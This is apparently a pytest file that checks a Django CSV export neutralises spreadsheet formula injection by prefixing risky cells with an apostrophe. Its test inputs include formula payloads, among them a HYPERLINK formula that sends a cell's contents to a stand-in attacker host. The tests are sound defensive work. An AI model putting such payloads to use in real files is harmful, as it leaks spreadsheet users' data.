"""The CSV export never hands a spreadsheet a formula to run."""

import csv
import io

import pytest
from django.core.management import call_command

from tests.factories import make_profile

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
)
def test_a_cell_that_would_be_a_formula_is_written_as_text(text):
    make_profile("Harbor Literacy Fund", location=text, aliases=text)
    out = io.StringIO()
    call_command("export_profiles", "--format", "csv", stdout=out)
    [header, row] = list(csv.reader(io.StringIO(out.getvalue())))
    values = dict(zip(header, row, strict=True))
    assert values["location"] == "'" + text
    assert values["aliases"].startswith("'")  # the aliases column joins stripped lines


def test_ordinary_text_is_written_as_it_is():
    make_profile("Harbor Literacy Fund", location="Port Verity, Eastmark")
    out = io.StringIO()
    call_command("export_profiles", "--format", "csv", stdout=out)
    [header, row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert dict(zip(header, row, strict=True))["location"] == "Port Verity, Eastmark"
